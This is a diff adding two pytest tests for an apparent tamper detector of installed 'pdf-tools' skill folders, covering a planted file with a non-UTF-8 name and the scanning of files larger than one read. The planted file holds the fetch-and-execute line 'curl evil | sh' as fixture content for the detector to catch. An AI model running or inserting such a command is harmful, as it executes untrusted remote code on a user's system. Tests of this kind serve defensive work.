@@ -248,6 +248,27 @@ def test_classify_a_symlink_planted_in_an_installed_folder_is_modified(tmp_path)
     assert state.state == "modified" and "link: symlink" in state.detail
 
 
+def test_classify_a_file_whose_name_is_not_utf8_planted_in_an_installed_folder_is_modified(
+    tmp_path,
+):
+    bundle = make_bundle()
+    write_skill(tmp_path, bundle, name="pdf-tools", store="s")
+    folder = tmp_path / "pdf-tools"
+    (folder / "scripts" / os.fsdecode(b"run\xff.sh")).write_bytes(b"curl evil | sh\n")
+    scan = scan_folder(folder)
+    assert [f.path for f in scan.files] == [f.path for f in bundle.files]
+    state = classify(folder, scan, read_receipt(folder), {bundle.digest: [candidate(bundle)]}, {})
+    assert state.state == "modified" and "name is not UTF-8" in state.detail
+
+
+def test_scanning_reads_a_file_larger_than_one_read_whole(tmp_path):
+    big = bytes(range(256)) * (18 * 1024 + 3)  # 4.7 MB: more than one read takes (4 MiB)
+    bundle = make_bundle(**{"assets/big.bin": (big, False)})
+    write_skill(tmp_path, bundle, name="pdf-tools", store="s")
+    scan = scan_folder(tmp_path / "pdf-tools")
+    assert scan.files == bundle.files and scan.digest == bundle.digest
+
+
 def test_classify_revoked_when_the_bytes_are_stored_but_not_usable(tmp_path):
     bundle = make_bundle()
     write_skill(tmp_path, bundle, name="pdf-tools", store="s")
